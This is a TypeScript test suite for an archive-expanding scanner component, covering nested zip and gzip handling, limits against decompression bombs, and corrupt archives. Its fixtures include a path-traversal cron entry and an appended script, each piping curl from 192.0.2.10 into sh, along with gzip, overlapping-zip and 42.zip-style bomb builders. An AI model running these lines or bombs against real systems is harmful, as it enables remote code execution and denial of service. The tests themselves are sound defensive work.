import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DEFAULT_EXPAND_LIMITS, expandObject, gzipMemberName, limitsFromEnv, type ExpandedPart, type ExpandLimits } from '../../member/scanner/objects/index.js';
import { buildZip, overlappingZip } from '../support/zip-writer.js';

const MiB = 1024 * 1024;
const FAKE_KEY = 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n';
const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);

async function expand(name: string, bytes: Uint8Array, limits: Partial<ExpandLimits> = {}, skipMedia = false): Promise<ExpandedPart[]> {
  const parts: ExpandedPart[] = [];
  for await (const part of expandObject(name, bytes, { limits: { ...DEFAULT_EXPAND_LIMITS, ...limits }, skipMedia })) parts.push(part);
  return parts;
}

/** Parts with content shown as its text (latin1), for exact comparison. */
function asText(parts: readonly ExpandedPart[]): unknown[] {
  return parts.map((p) => (p.type === 'content' ? { type: p.type, path: p.path, depth: p.depth, text: Buffer.from(p.bytes).toString('latin1') } : p));
}

/** Parts with content shown as its size. */
function asSizes(parts: readonly ExpandedPart[]): unknown[] {
  return parts.map((p) => (p.type === 'content' ? { type: p.type, path: p.path, depth: p.depth, size: p.bytes.length } : p));
}

/** Incompressible bytes that repeat from run to run. */
function noise(length: number, seed: string): Buffer {
  const out = Buffer.alloc(length);
  for (let at = 0, n = 0; at < length; n++, at += 32) createHash('sha256').update(`${seed}:${n}`).digest().copy(out, at);
  return out;
}

const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

afterEach(() => {
  vi.restoreAllMocks();
});

describe('expandObject: plain, gzip and zip', () => {
  it('passes plain text through as one content part', async () => {
    const bytes = Buffer.from(FAKE_KEY);
    expect(await expand('config/prod.env', bytes)).toEqual([{ type: 'content', path: 'config/prod.env', bytes, depth: 0 }]);
  });

  it('decompresses gzip, naming the output after the object without .gz', async () => {
    const log = '{"Records":[{"eventName":"GetObject","sourceIPAddress":"192.0.2.10"}]}\n';
    const gz = zlib.gzipSync(log);
    expect(asText(await expand('AWSLogs/123456789012/app.json.gz', gz))).toEqual([
      { type: 'content', path: 'AWSLogs/123456789012/app.json.gz', depth: 0, text: text(gz) },
      { type: 'content', path: 'AWSLogs/123456789012/app.json.gz!app.json', depth: 1, text: log },
    ]);
  });

  it('yields each file of a zip with its exact bytes, skipping directories, after the archive itself', async () => {
    const zip = buildZip([
      { name: 'deploy/', data: '' },
      { name: 'deploy/run.sh', data: '#!/bin/sh\naws s3 sync dist s3://example-bucket\n' },
      { name: 'deploy/.env', data: FAKE_KEY, method: 'stored' },
      { name: 'README.md', data: '# Release 2024-05-14\n' },
    ]);
    expect(asText(await expand('release.zip', zip))).toEqual([
      { type: 'content', path: 'release.zip', depth: 0, text: text(zip) },
      { type: 'content', path: 'release.zip!deploy/run.sh', depth: 1, text: '#!/bin/sh\naws s3 sync dist s3://example-bucket\n' },
      { type: 'content', path: 'release.zip!deploy/.env', depth: 1, text: FAKE_KEY },
      { type: 'content', path: 'release.zip!README.md', depth: 1, text: '# Release 2024-05-14\n' },
    ]);
  });

  it('follows a zip in a gzip in a zip, with exact paths and depths', async () => {
    const inner = buildZip([{ name: 'secrets/config.env', data: FAKE_KEY }]);
    const innerGz = zlib.gzipSync(inner);
    const outer = buildZip([
      { name: 'readme.txt', data: 'backup of 2024-05-14' },
      { name: 'inner.zip.gz', data: innerGz, method: 'stored' },
    ]);
    expect(asText(await expand('outer.zip', outer))).toEqual([
      { type: 'content', path: 'outer.zip', depth: 0, text: text(outer) },
      { type: 'content', path: 'outer.zip!readme.txt', depth: 1, text: 'backup of 2024-05-14' },
      { type: 'content', path: 'outer.zip!inner.zip.gz', depth: 1, text: text(innerGz) },
      { type: 'content', path: 'outer.zip!inner.zip.gz!inner.zip', depth: 2, text: text(inner) },
      { type: 'content', path: 'outer.zip!inner.zip.gz!inner.zip!secrets/config.env', depth: 3, text: FAKE_KEY },
    ]);
  });

  it('treats a .tar.gz as the tar bytes, without parsing the tar', async () => {
    const tar = Buffer.concat([Buffer.from('etc/app.conf'), Buffer.alloc(500), Buffer.from(FAKE_KEY)]);
    const parts = await expand('backups/etc.tgz', zlib.gzipSync(tar));
    expect(asSizes(parts).slice(1)).toEqual([{ type: 'content', path: 'backups/etc.tgz!etc.tar', depth: 1, size: tar.length }]);
  });

  it('labels entries with names yauzl would refuse, and makes control characters visible', async () => {
    const zip = buildZip([
      { name: '../../etc/cron.d/backdoor', data: '* * * * * root curl http://192.0.2.10/x | sh\n' },
      { name: 'log\nforged line.txt', data: 'x' },
      { name: 'after.txt', data: 'still scanned' },
    ]);
    expect(asText(await expand('upload.zip', zip)).slice(1)).toEqual([
      { type: 'content', path: 'upload.zip!../../etc/cron.d/backdoor', depth: 1, text: '* * * * * root curl http://192.0.2.10/x | sh\n' },
      { type: 'content', path: 'upload.zip!log?forged line.txt', depth: 1, text: 'x' },
      { type: 'content', path: 'upload.zip!after.txt', depth: 1, text: 'still scanned' },
    ]);
  });
});

describe('expandObject: depth', () => {
  it('scans an archive at the depth limit as bytes without opening it', async () => {
    const level3 = buildZip([{ name: 'deepest.txt', data: 'not reached' }]);
    const level2 = buildZip([{ name: 'level3.zip', data: level3 }]);
    const level1 = buildZip([{ name: 'level2.zip', data: level2 }]);
    const top = buildZip([{ name: 'level1.zip', data: level1 }]);
    expect(asSizes(await expand('top.zip', top))).toEqual([
      { type: 'content', path: 'top.zip', depth: 0, size: top.length },
      { type: 'content', path: 'top.zip!level1.zip', depth: 1, size: level1.length },
      { type: 'content', path: 'top.zip!level1.zip!level2.zip', depth: 2, size: level2.length },
      { type: 'content', path: 'top.zip!level1.zip!level2.zip!level3.zip', depth: 3, size: level3.length },
      { type: 'limit', path: 'top.zip!level1.zip!level2.zip!level3.zip', limit: 'depth', message: 'zip at depth 3 not opened: the limit is 3' },
    ]);
  });

  it('opens nothing when the depth limit is 0', async () => {
    const gz = zlib.gzipSync(FAKE_KEY);
    expect(asSizes(await expand('keys.env.gz', gz, { maxDepth: 0 }))).toEqual([
      { type: 'content', path: 'keys.env.gz', depth: 0, size: gz.length },
      { type: 'limit', path: 'keys.env.gz', limit: 'depth', message: 'gzip at depth 0 not opened: the limit is 0' },
    ]);
  });
});

describe('expandObject: bombs', () => {
  it('stops a gzip bomb at the ratio limit, never letting zlib inflate past it', async () => {
    const bomb = zlib.gzipSync(Buffer.alloc(50 * MiB), { level: 9 });
    const gunzip = vi.spyOn(zlib, 'gunzipSync');
    const parts = await expand('bomb.bin.gz', bomb);
    const cap = 100 * bomb.length;
    expect(asSizes(parts)).toEqual([
      { type: 'content', path: 'bomb.bin.gz', depth: 0, size: bomb.length },
      { type: 'limit', path: 'bomb.bin.gz!bomb.bin', limit: 'ratio', message: `expands to more than ${cap} bytes: more than 100x its ${bomb.length} compressed bytes` },
    ]);
    expect(cap).toBeLessThan(6 * MiB);
    expect(gunzip).toHaveBeenCalledTimes(1);
    expect(gunzip.mock.calls[0]![1]).toEqual({ maxOutputLength: cap });
    expect(gunzip.mock.results[0]).toMatchObject({ type: 'throw', value: { code: 'ERR_BUFFER_TOO_LARGE' } });
  });

  it('refuses a zip entry whose honest sizes exceed the ratio, before inflating it, and goes on with its siblings', async () => {
    const zip = buildZip([
      { name: 'zeros.bin', data: Buffer.alloc(20 * MiB) },
      { name: 'notes.txt', data: FAKE_KEY },
    ]);
    const inflate = vi.spyOn(zlib, 'inflateRawSync');
    const parts = await expand('bomb.zip', zip);
    const compressed = zlib.deflateRawSync(Buffer.alloc(20 * MiB)).length;
    expect(asText(parts).slice(1)).toEqual([
      { type: 'limit', path: 'bomb.zip!zeros.bin', limit: 'ratio', message: `declares ${20 * MiB} bytes: more than 100x its ${compressed} compressed bytes` },
      { type: 'content', path: 'bomb.zip!notes.txt', depth: 1, text: FAKE_KEY },
    ]);
    expect(inflate.mock.calls.map((call) => call[1])).toEqual([{ maxOutputLength: FAKE_KEY.length }]);
  });

  it('stops a zip entry that lies about its size at the size it declares', async () => {
    const zip = buildZip([
      { name: 'small.txt', data: Buffer.alloc(20 * MiB), declare: { uncompressedSize: 4096 } },
      { name: 'notes.txt', data: FAKE_KEY },
    ]);
    const inflate = vi.spyOn(zlib, 'inflateRawSync');
    expect(asText(await expand('liar.zip', zip)).slice(1)).toEqual([
      { type: 'unreadable', path: 'liar.zip!small.txt', message: 'entry inflates past the 4096 bytes it declares (a zip bomb or a corrupt archive): not scanned' },
      { type: 'content', path: 'liar.zip!notes.txt', depth: 1, text: FAKE_KEY },
    ]);
    expect(inflate.mock.calls[0]![1]).toEqual({ maxOutputLength: 4096 });
    expect(inflate.mock.results[0]).toMatchObject({ type: 'throw', value: { code: 'ERR_BUFFER_TOO_LARGE' } });
  });

  it('stops overlapping entries (Fifield) at the archive-wide ratio, though each entry is within it', async () => {
    const kernel = noise(64 * 1024, 'kernel');
    const zip = overlappingZip({ name: 'kernel', data: kernel }, 1000);
    const parts = await expand('fifield.zip', zip, { ratioGraceBytes: 0 });
    const fits = Math.floor((100 * zip.length) / kernel.length);
    expect(fits).toBeGreaterThan(100);
    expect(fits).toBeLessThan(400);
    const expected = [
      { type: 'content', path: 'fifield.zip', depth: 0, size: zip.length },
      ...Array.from({ length: fits }, (_, i) => ({ type: 'content', path: `fifield.zip!kernel-${i + 1}`, depth: 1, size: kernel.length })),
      {
        type: 'limit',
        path: 'fifield.zip',
        limit: 'ratio',
        message: `entry kernel-${fits + 1} declares ${kernel.length} bytes: with the entries before it, more than 100x the archive's ${zip.length} bytes; the rest of the archive is not expanded`,
      },
    ];
    expect(asSizes(parts)).toEqual(expected);
  });

  it('stops overlapping entries at the total-bytes budget when the ratio allows them, and expands nothing after', async () => {
    const kernel = noise(64 * 1024, 'kernel');
    const outer = buildZip([
      { name: 'fifield.zip', data: overlappingZip({ name: 'kernel', data: kernel }, 1000), method: 'stored' },
      { name: 'after.txt', data: 'not reached' },
    ]);
    const parts = await expand('outer.zip', outer, { maxRatio: 100_000, maxTotalBytes: 8 * MiB });
    // The inner archive is itself expanded bytes of the outer one: the kernels get what it leaves.
    const inner = (parts[1]! as { bytes: Uint8Array }).bytes.length;
    const fits = Math.floor((8 * MiB - inner) / kernel.length);
    const left = 8 * MiB - inner - fits * kernel.length;
    expect(fits).toBe(126);
    expect(asSizes(parts).slice(2)).toEqual([
      ...Array.from({ length: fits }, (_, i) => ({ type: 'content', path: `outer.zip!fifield.zip!kernel-${i + 1}`, depth: 2, size: kernel.length })),
      {
        type: 'limit',
        path: `outer.zip!fifield.zip!kernel-${fits + 1}`,
        limit: 'total-bytes',
        message: `declares ${kernel.length} bytes: ${left} of the object's ${8 * MiB} expanded bytes were left; nothing more is expanded`,
      },
    ]);
  });

  it('expands a 42.zip-style nest down to its kernels and inflates none of them', async () => {
    const kernel = Buffer.alloc(4 * MiB);
    const level1 = buildZip(['a', 'b', 'c', 'd'].map((n) => ({ name: `${n}.bin`, data: kernel })));
    const level2 = buildZip(['a', 'b', 'c', 'd'].map((n) => ({ name: `${n}.zip`, data: level1 })));
    const level3 = buildZip(['a', 'b', 'c', 'd'].map((n) => ({ name: `${n}.zip`, data: level2 })));
    const compressed = zlib.deflateRawSync(kernel).length;
    const inflate = vi.spyOn(zlib, 'inflateRawSync');
    const parts = await expand('42.zip', level3);
    const expected: unknown[] = [{ type: 'content', path: '42.zip', depth: 0, size: level3.length }];
    for (const a of ['a', 'b', 'c', 'd']) {
      expected.push({ type: 'content', path: `42.zip!${a}.zip`, depth: 1, size: level2.length });
      for (const b of ['a', 'b', 'c', 'd']) {
        expected.push({ type: 'content', path: `42.zip!${a}.zip!${b}.zip`, depth: 2, size: level1.length });
        for (const c of ['a', 'b', 'c', 'd']) {
          expected.push({ type: 'limit', path: `42.zip!${a}.zip!${b}.zip!${c}.bin`, limit: 'ratio', message: `declares ${4 * MiB} bytes: more than 100x its ${compressed} compressed bytes` });
        }
      }
    }
    expect(asSizes(parts)).toEqual(expected);
    expect(inflate.mock.calls.every((call) => (call[1]?.maxOutputLength ?? 0) < 4 * MiB)).toBe(true);
  });
});

describe('expandObject: budgets', () => {
  it('stops at the entries budget of the object, naming the archive where it ran out, and expands nothing after', async () => {
    const many = buildZip(Array.from({ length: 8 }, (_, i) => ({ name: `f${i + 1}.txt`, data: `file ${i + 1}` })));
    const outer = buildZip([
      { name: 'many.zip', data: many },
      { name: 'after.txt', data: 'not reached' },
    ]);
    expect(asText(await expand('outer.zip', outer, { maxEntries: 5 })).slice(2)).toEqual([
      { type: 'content', path: 'outer.zip!many.zip!f1.txt', depth: 2, text: 'file 1' },
      { type: 'content', path: 'outer.zip!many.zip!f2.txt', depth: 2, text: 'file 2' },
      { type: 'content', path: 'outer.zip!many.zip!f3.txt', depth: 2, text: 'file 3' },
      { type: 'content', path: 'outer.zip!many.zip!f4.txt', depth: 2, text: 'file 4' },
      { type: 'limit', path: 'outer.zip!many.zip', limit: 'entries', message: 'more than 5 entries in the object: nothing more is expanded' },
    ]);
  });

  it('stops at the total-bytes budget before the part that would cross it, and expands nothing after', async () => {
    const part = (n: number) => ({ name: `part-${n}.bin`, data: noise(400 * 1024, `part-${n}`), method: 'stored' as const });
    const zip = buildZip([part(1), part(2), part(3), { name: 'tail.txt', data: 'not reached' }]);
    expect(asSizes(await expand('parts.zip', zip, { maxTotalBytes: MiB })).slice(1)).toEqual([
      { type: 'content', path: 'parts.zip!part-1.bin', depth: 1, size: 409600 },
      { type: 'content', path: 'parts.zip!part-2.bin', depth: 1, size: 409600 },
      { type: 'limit', path: 'parts.zip!part-3.bin', limit: 'total-bytes', message: `declares 409600 bytes: ${MiB - 819200} of the object's ${MiB} expanded bytes were left; nothing more is expanded` },
    ]);
  });

  it('stops a gzip stream at the part size limit', async () => {
    const log = Buffer.from('2024-05-14T12:00:00Z GET /health 200 192.0.2.10\n'.repeat(50_000));
    const gz = zlib.gzipSync(log);
    expect(asSizes(await expand('access.log.gz', gz, { maxEntryBytes: MiB })).slice(1)).toEqual([
      { type: 'limit', path: 'access.log.gz!access.log', limit: 'entry-bytes', message: `expands to more than ${MiB} bytes: one part may have at most ${MiB} bytes` },
    ]);
  });

  it('refuses a zip entry that declares more than the part size limit and goes on', async () => {
    const zip = buildZip([
      { name: 'dump.sql', data: noise(300 * 1024, 'dump'), method: 'stored' },
      { name: 'notes.txt', data: 'after the dump' },
    ]);
    expect(asText(await expand('db.zip', zip, { maxEntryBytes: 256 * 1024 })).slice(1)).toEqual([
      { type: 'limit', path: 'db.zip!dump.sql', limit: 'entry-bytes', message: `declares ${300 * 1024} bytes: one part may have at most ${256 * 1024} bytes` },
      { type: 'content', path: 'db.zip!notes.txt', depth: 1, text: 'after the dump' },
    ]);
  });
});

describe('expandObject: broken data', () => {
  it('scans what a truncated gzip stream holds before the cut, then says it is truncated', async () => {
    const log = Buffer.from(Array.from({ length: 4000 }, (_, i) => `2024-05-14T12:00:${String(i % 60).padStart(2, '0')}Z request ${i} from 192.0.2.10\n`).join(''));
    const gz = zlib.gzipSync(log);
    const cut = gz.subarray(0, Math.floor(gz.length / 2));
    const parts = await expand('app.log.gz', cut);
    const partial = parts[1]! as { bytes: Uint8Array };
    expect(partial.bytes.length).toBeGreaterThan(0);
    expect(partial.bytes.length).toBeLessThan(log.length);
    expect(text(partial.bytes)).toBe(text(log.subarray(0, partial.bytes.length)));
    expect(asSizes(parts)).toEqual([
      { type: 'content', path: 'app.log.gz', depth: 0, size: cut.length },
      { type: 'content', path: 'app.log.gz!app.log', depth: 1, size: partial.bytes.length },
      { type: 'unreadable', path: 'app.log.gz!app.log', message: `the gzip stream is truncated (zlib: unexpected end of file); scanned the ${partial.bytes.length} bytes read before the fault` },
    ]);
  });

  it('says nothing could be read from a gzip cut inside its header', async () => {
    const cut = zlib.gzipSync(FAKE_KEY).subarray(0, 6);
    expect(asSizes(await expand('keys.gz', cut))).toEqual([
      { type: 'content', path: 'keys.gz', depth: 0, size: 6 },
      { type: 'unreadable', path: 'keys.gz!keys', message: 'the gzip stream is truncated (zlib: unexpected end of file); nothing could be read' },
    ]);
  });

  it('scans a gzip stream whose CRC is wrong and says so', async () => {
    const gz = zlib.gzipSync(FAKE_KEY);
    gz.writeUInt32LE((gz.readUInt32LE(gz.length - 8) ^ 0xffffffff) >>> 0, gz.length - 8);
    expect(asText(await expand('keys.env.gz', gz)).slice(1)).toEqual([
      { type: 'content', path: 'keys.env.gz!keys.env', depth: 1, text: FAKE_KEY },
      { type: 'unreadable', path: 'keys.env.gz!keys.env', message: `the gzip stream's CRC-32 does not match its data (zlib: incorrect data check); scanned the ${FAKE_KEY.length} bytes read before the fault` },
    ]);
  });

  it('scans a gzip stream with a script appended, and the script in the container', async () => {
    const script = '#!/bin/sh\ncurl http://192.0.2.10/stage2 | sh\n';
    const gz = Buffer.concat([zlib.gzipSync(FAKE_KEY), Buffer.from(script)]);
    const parts = await expand('keys.env.gz', gz);
    expect(text((parts[0] as { bytes: Uint8Array }).bytes).endsWith(script)).toBe(true);
    expect(asText(parts).slice(1)).toEqual([
      { type: 'content', path: 'keys.env.gz!keys.env', depth: 1, text: FAKE_KEY },
      { type: 'unreadable', path: 'keys.env.gz!keys.env', message: `what follows the gzip stream is not gzip (zlib: incorrect header check); scanned the ${FAKE_KEY.length} bytes read before the fault` },
    ]);
  });

  it('reads every member of a multi-member gzip', async () => {
    const gz = Buffer.concat([zlib.gzipSync('first member\n'), zlib.gzipSync('second member\n')]);
    expect(asText(await expand('joined.log.gz', gz)).slice(1)).toEqual([{ type: 'content', path: 'joined.log.gz!joined.log', depth: 1, text: 'first member\nsecond member\n' }]);
  });

  it('names a truncated zip as unreadable, after scanning its bytes', async () => {
    const zip = buildZip([{ name: 'a.txt', data: FAKE_KEY }, { name: 'b.txt', data: 'second' }]);
    const cut = zip.subarray(0, zip.length - 40);
    expect(asSizes(await expand('backup.zip', cut))).toEqual([
      { type: 'content', path: 'backup.zip', depth: 0, size: cut.length },
      { type: 'unreadable', path: 'backup.zip', message: 'not a readable zip: End of central directory record signature not found. Either not a zip file, or file is truncated.' },
    ]);
  });

  it('keeps the entries read before a broken central directory record', async () => {
    const zip = buildZip([{ name: 'a.txt', data: 'first' }, { name: 'b.txt', data: 'second' }, { name: 'c.txt', data: 'third' }]);
    const second = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 1);
    zip.writeUInt32LE(0x0badf00d, second);
    expect(asText(await expand('three.zip', zip)).slice(1)).toEqual([
      { type: 'content', path: 'three.zip!a.txt', depth: 1, text: 'first' },
      { type: 'unreadable', path: 'three.zip', message: 'zip central directory: invalid central directory file header signature: 0xbadf00d; later entries not read' },
    ]);
  });

  it('scans a zip entry whose CRC is wrong and says so', async () => {
    const zip = buildZip([{ name: 'keys.env', data: FAKE_KEY, declare: { crc32: 0x12345678 } }]);
    const crc = zlib.crc32(FAKE_KEY).toString(16).padStart(8, '0');
    expect(asText(await expand('keys.zip', zip)).slice(1)).toEqual([
      { type: 'content', path: 'keys.zip!keys.env', depth: 1, text: FAKE_KEY },
      { type: 'unreadable', path: 'keys.zip!keys.env', message: `CRC-32 of the data is ${crc}, the archive says 12345678: the entry is corrupt or was altered` },
    ]);
  });

  it('scans what a zip entry with truncated deflate data holds before the cut', async () => {
    const log = Buffer.from(Array.from({ length: 3000 }, (_, i) => `request ${i} from 192.0.2.10 at 2024-05-14T12:${String(i % 60).padStart(2, '0')}:00Z\n`).join(''));
    const full = zlib.deflateRawSync(log).length;
    const zip = buildZip([{ name: 'access.log', data: log, declare: { compressedSize: Math.floor(full / 2) } }]);
    const parts = await expand('logs.zip', zip);
    const partial = parts[1]! as { bytes: Uint8Array };
    expect(partial.bytes.length).toBeGreaterThan(0);
    expect(text(partial.bytes)).toBe(text(log.subarray(0, partial.bytes.length)));
    expect(asSizes(parts).slice(1)).toEqual([
      { type: 'content', path: 'logs.zip!access.log', depth: 1, size: partial.bytes.length },
      { type: 'unreadable', path: 'logs.zip!access.log', message: `entry data is truncated (zlib: unexpected end of file); scanned the ${partial.bytes.length} bytes read before the cut` },
    ]);
  });

  it('reports an entry that inflates to less than it declares, and scans what it holds', async () => {
    const zip = buildZip([{ name: 'short.txt', data: 'only this', declare: { uncompressedSize: 100 } }]);
    expect(asText(await expand('short.zip', zip)).slice(1)).toEqual([
      { type: 'content', path: 'short.zip!short.txt', depth: 1, text: 'only this' },
      { type: 'unreadable', path: 'short.zip!short.txt', message: 'entry inflates to 9 bytes, not the 100 it declares' },
    ]);
  });

  it('names an archive with a strong-encryption entry unreadable from that entry on', async () => {
    const zip = buildZip([
      { name: 'public.txt', data: 'published' },
      { name: 'vault.kdbx', data: noise(64, 'vault'), method: 'stored', declare: { flags: 0x0040 } },
      { name: 'after.txt', data: 'not reached' },
    ]);
    expect(asText(await expand('vault.zip', zip)).slice(1)).toEqual([
      { type: 'content', path: 'vault.zip!public.txt', depth: 1, text: 'published' },
      { type: 'unreadable', path: 'vault.zip', message: 'zip central directory: strong encryption is not supported; later entries not read' },
    ]);
  });

  it('names an archive unreadable when a zip64 size is missing from its extra field', async () => {
    const emptyZip64Field = Uint8Array.from([0x01, 0x00, 0x00, 0x00]);
    const zip = buildZip([{ name: 'huge.bin', data: 'x', method: 'stored', declare: { uncompressedSize: 0xffffffff, compressedSize: 0xffffffff }, extra: emptyZip64Field }]);
    expect(asText(await expand('huge.zip', zip)).slice(1)).toEqual([
      { type: 'unreadable', path: 'huge.zip', message: 'zip central directory: zip64 extended information extra field does not include uncompressed size; later entries not read' },
    ]);
  });

  it('reports an encrypted entry and goes on with its siblings', async () => {
    const zip = buildZip([
      { name: 'payroll.xlsx', data: Buffer.concat([noise(12, 'header'), noise(200, 'payroll')]), encrypted: true },
      { name: 'readme.txt', data: 'password in the usual place' },
    ]);
    expect(asText(await expand('payroll.zip', zip)).slice(1)).toEqual([
      { type: 'unreadable', path: 'payroll.zip!payroll.xlsx', message: 'entry is encrypted: not scanned' },
      { type: 'content', path: 'payroll.zip!readme.txt', depth: 1, text: 'password in the usual place' },
    ]);
  });

  it('reports entries with an unsupported method or a stored size that does not add up', async () => {
    const zip = buildZip([
      { name: 'data.bz2.bin', data: 'BZh91AY&SY', method: 'stored', declare: { compressionMethod: 12 } },
      { name: 'odd.txt', data: 'ten bytes!', method: 'stored', declare: { uncompressedSize: 20 } },
      { name: 'fine.txt', data: 'fine' },
    ]);
    expect(asText(await expand('mixed.zip', zip)).slice(1)).toEqual([
      { type: 'unreadable', path: 'mixed.zip!data.bz2.bin', message: 'compression method 12 (bzip2) is not supported: not scanned' },
      { type: 'unreadable', path: 'mixed.zip!odd.txt', message: 'stored entry declares 20 bytes but holds 10: not scanned' },
      { type: 'content', path: 'mixed.zip!fine.txt', depth: 1, text: 'fine' },
    ]);
  });
});

describe('expandObject: media', () => {
  it('skips media only when asked', async () => {
    expect(await expand('photos/cat.png', PNG, {}, true)).toEqual([{ type: 'skipped', path: 'photos/cat.png', reason: 'media', mediaType: 'png' }]);
    expect(await expand('photos/cat.png', PNG, {}, false)).toEqual([{ type: 'content', path: 'photos/cat.png', bytes: PNG, depth: 0 }]);
  });

  it('skips media inside archives by their bytes, whatever their names', async () => {
    const zip = buildZip([
      { name: 'cat.txt', data: PNG, method: 'stored' },
      { name: 'notes.png', data: 'not an image' },
    ]);
    expect(asText(await expand('album.zip', zip, {}, true)).slice(1)).toEqual([
      { type: 'skipped', path: 'album.zip!cat.txt', reason: 'media', mediaType: 'png' },
      { type: 'content', path: 'album.zip!notes.png', depth: 1, text: 'not an image' },
    ]);
  });
});

describe('gzipMemberName', () => {
  it('drops the gzip suffix of the last path segment', () => {
    expect(gzipMemberName('AWSLogs/123456789012/CloudTrail/us-east-1/2024/05/14/trail.json.gz')).toBe('trail.json');
    expect(gzipMemberName('outer.zip!dir/a.tar.GZ')).toBe('a.tar');
    expect(gzipMemberName('backup.tgz')).toBe('backup.tar');
    expect(gzipMemberName('notes.gzip')).toBe('notes');
  });

  it('keeps a name without a gzip suffix as it is', () => {
    expect(gzipMemberName('uploads/blob')).toBe('blob');
    expect(gzipMemberName('.gz')).toBe('.gz');
  });
});

describe('limitsFromEnv', () => {
  it('uses the defaults, with the object size as the part limit', () => {
    expect(limitsFromEnv({}, 50 * MiB)).toEqual({ ...DEFAULT_EXPAND_LIMITS, maxEntryBytes: 50 * MiB });
  });

  it('reads each limit from its variable', () => {
    const env = {
      EXPAND_MAX_TOTAL_BYTES: '1073741824',
      EXPAND_MAX_RATIO: '250',
      EXPAND_MAX_DEPTH: '5',
      EXPAND_MAX_ENTRIES: '50000',
      EXPAND_MAX_ENTRY_BYTES: '10485760',
      EXPAND_RATIO_GRACE_BYTES: '0',
    };
    expect(limitsFromEnv(env, 50 * MiB)).toEqual({ maxTotalBytes: 1073741824, maxRatio: 250, maxDepth: 5, maxEntries: 50000, maxEntryBytes: 10485760, ratioGraceBytes: 0 });
  });

  it('fails on a value that is not a whole number in range, naming the variable', () => {
    expect(() => limitsFromEnv({ EXPAND_MAX_RATIO: '100x' })).toThrow('EXPAND_MAX_RATIO must be a whole number of at least 1, not "100x"');
    expect(() => limitsFromEnv({ EXPAND_MAX_DEPTH: '-1' })).toThrow('EXPAND_MAX_DEPTH must be a whole number of at least 0, not "-1"');
  });
});
